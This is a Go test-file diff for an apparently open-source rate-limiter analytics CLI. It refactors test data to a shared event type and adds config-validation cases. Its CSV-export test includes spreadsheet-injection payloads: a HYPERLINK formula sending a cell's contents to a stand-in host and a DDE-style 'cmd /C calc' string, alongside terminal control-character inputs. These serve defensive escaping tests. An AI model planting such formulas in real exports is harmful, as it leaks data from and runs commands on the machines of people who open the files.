@@ -25,6 +25,7 @@ import (
 	"github.com/edgelimit/edgelimit/analytics"
 	"github.com/edgelimit/edgelimit/analytics/analyticstest"
 	"github.com/edgelimit/edgelimit/consumer"
+	"github.com/edgelimit/edgelimit/gateway/event"
 	"github.com/edgelimit/edgelimit/internal/readme"
 	"github.com/edgelimit/edgelimit/internal/testenv"
 	"github.com/edgelimit/edgelimit/limiter"
@@ -123,6 +124,10 @@ alerts: {alertmanager_url: "http://am:9093", labels: {cluster: c1}}
 		"bad listen":       {"clickhouse: {addr: x:1}\nlisten: nowhere\n", nil, "listen"},
 		"bad alertmanager": {"clickhouse: {addr: x:1}\nalerts: {alertmanager_url: 'am:9093'}\n", nil, "alertmanager url"},
 		"bad log level":    {"clickhouse: {addr: x:1}\nlog_level: loud\n", nil, "log_level"},
+		"TLS for an http alertmanager": {"clickhouse: {addr: x:1}\nalerts: {alertmanager_url: 'http://am:9093', alertmanager_client: {tls: {enabled: true}}}\n", nil,
+			"alerts.alertmanager_client.tls is set but alerts.alertmanager_url is http://"},
+		"TLS for an http webhook": {"clickhouse: {addr: x:1}\nalerts: {webhook_url: 'http://hooks:80/T0KEN'}\n", map[string]string{"EDGELIMIT_ALERT_WEBHOOK_TLS": "true"},
+			"alerts.webhook_client.tls is set but alerts.webhook_url is http://"},
 	} {
 		p := ""
 		if tc.file != "" {
@@ -160,9 +165,9 @@ func database(t *testing.T) (driver.Conn, string, string) {
 
 // mustInsert writes rows to conn's decisions table, rolled up batch by
 // batch as the consumer does.
-func mustInsert(t *testing.T, conn driver.Conn, rows []analyticstest.Decision) {
+func mustInsert(t *testing.T, conn driver.Conn, rows []event.Decision) {
 	t.Helper()
-	if err := analyticstest.Insert(context.Background(), conn, rows, consumer.RollUp); err != nil {
+	if err := analyticstest.Insert(context.Background(), conn, rows, consumer.Backfill); err != nil {
 		t.Fatal(err)
 	}
 }
@@ -173,13 +178,13 @@ func fleet(now time.Time) analyticstest.Fleet {
 		Keys: 200, PerKeyRate: 0.05, Seed: 7,
 		Hot:     []analyticstest.HotKey{{KeyID: "hot-1", Name: "acme", Rate: 60, For: 90 * time.Second, Weights: map[string]float64{"gw-a": 3, "gw-b": 1}}},
 		NAT:     []analyticstest.NATAddr{{IP: "203.0.113.9", Clients: 40, Requests: 800}, {IP: "198.51.100.7", Clients: 25, Requests: 500}},
-		Outages: []analyticstest.Outage{{Gateway: "gw-c", From: now.Add(-5 * time.Minute).Truncate(time.Minute), For: time.Minute, Share: 0.5, Mode: "fail_closed"}},
+		Outages: []analyticstest.Outage{{Gateway: "gw-c", From: now.Add(-5 * time.Minute).Truncate(time.Minute), For: time.Minute, Share: 0.5, Mode: event.ModeFailClosed}},
 	}
 }
 
 // seededFleet inserts fleet's rows, at a now 30s into the minute before
 // the real one, into a database of the test's own.
-func seededFleet(t *testing.T) (addr, db string, now time.Time, rows []analyticstest.Decision) {
+func seededFleet(t *testing.T) (addr, db string, now time.Time, rows []event.Decision) {
 	t.Helper()
 	conn, addr, db := database(t)
 	now = time.Now().UTC().Truncate(time.Minute).Add(-30 * time.Second)
@@ -209,7 +214,7 @@ func TestQueryCommands(t *testing.T) {
 		if !d.Allowed {
 			denied++
 		}
-		if d.Mode == "fail_closed" {
+		if d.Mode == event.ModeFailClosed {
 			failClosed++
 		}
 	}
@@ -428,12 +433,12 @@ alerts:
 
 	// A fail-open spike: the fleet alert reaches Alertmanager.
 	spikeAt := time.Now()
-	var spike []analyticstest.Decision
+	var spike []event.Decision
 	for i := 0; i < 4000; i++ {
-		spike = append(spike, analyticstest.Decision{
-			Time: spikeAt.Add(-time.Duration(i) * time.Millisecond), Gateway: "gw-c", KeyID: "key-" + strconv.Itoa(i%50),
-			KeyKind: "api_key", ClientIP: "10.0.0.1", Route: "/v1/search", Plan: "free", Allowed: true,
-			StoreStatus: "unavailable", Mode: "fail_open",
+		spike = append(spike, event.Decision{
+			Time: spikeAt.Add(-time.Duration(i) * time.Millisecond), GatewayID: "gw-c", KeyID: "key-" + strconv.Itoa(i%50),
+			KeyKind: event.KindAPIKey, ClientIP: "10.0.0.1", Route: "/v1/search", Plan: "free", Allowed: true,
+			StoreStatus: event.StoreUnavailable, Mode: event.ModeFailOpen,
 		})
 	}
 	mustInsert(t, conn, spike)
@@ -571,7 +576,7 @@ func TestKeyCommand(t *testing.T) {
 	for _, d := range rows {
 		if d.KeyID == "hot-1" {
 			want++
-			gateways[d.Gateway] = true
+			gateways[d.GatewayID] = true
 			if !d.Allowed {
 				denied++
 			}
@@ -638,10 +643,10 @@ func TestCSVFormulas(t *testing.T) {
 	conn, addr, db := database(t)
 	now := time.Now().UTC().Truncate(time.Minute).Add(-30 * time.Second)
 	const name = `=HYPERLINK("http://evil.example/?"&A1,"x")`
-	var rows []analyticstest.Decision
+	var rows []event.Decision
 	for i := range 6 {
-		rows = append(rows, analyticstest.Decision{
-			Time: now.Add(-time.Duration(i) * time.Second), Gateway: "@gw", KeyID: "k-formula", KeyKind: "api_key",
+		rows = append(rows, event.Decision{
+			Time: now.Add(-time.Duration(i) * time.Second), GatewayID: "@gw", KeyID: "k-formula", KeyKind: event.KindAPIKey,
 			KeyName: name, ClientIP: "192.0.2.1", Route: "+cmd|' /C calc'!A0", Method: "-2+3", Plan: "\tfree",
 			BindingRule: "\r=1+1", Allowed: i%2 == 0, Limit: 10, Cost: 1,
 		})
@@ -693,11 +698,11 @@ func TestTableEscapesControlCharacters(t *testing.T) {
 		route   = "/v1/\u202eorders\tx"
 		gateway = "gw\r\nfake-row"
 	)
-	var rows []analyticstest.Decision
+	var rows []event.Decision
 	for i := range 20 {
-		rows = append(rows, analyticstest.Decision{Time: now.Add(-time.Duration(i) * time.Second), Gateway: gateway,
-			KeyID: "k-1", KeyName: name, KeyKind: "api_key", ClientIP: "192.0.2.1", Route: route, Method: "GET",
-			Plan: "free\u009b31m\xff", BindingRule: "per_minute", Allowed: i%2 == 0, Limit: 10, Mode: "fail_closed", StoreStatus: "unavailable"})
+		rows = append(rows, event.Decision{Time: now.Add(-time.Duration(i) * time.Second), GatewayID: gateway,
+			KeyID: "k-1", KeyName: name, KeyKind: event.KindAPIKey, ClientIP: "192.0.2.1", Route: route, Method: "GET",
+			Plan: "free\u009b31m\xff", BindingRule: "per_minute", Allowed: i%2 == 0, Limit: 10, Mode: event.ModeFailClosed, StoreStatus: event.StoreUnavailable})
 	}
 	mustInsert(t, conn, rows)
 	getenv := env(map[string]string{"EDGELIMIT_CLICKHOUSE_ADDR": addr, "EDGELIMIT_CLICKHOUSE_DATABASE": db})
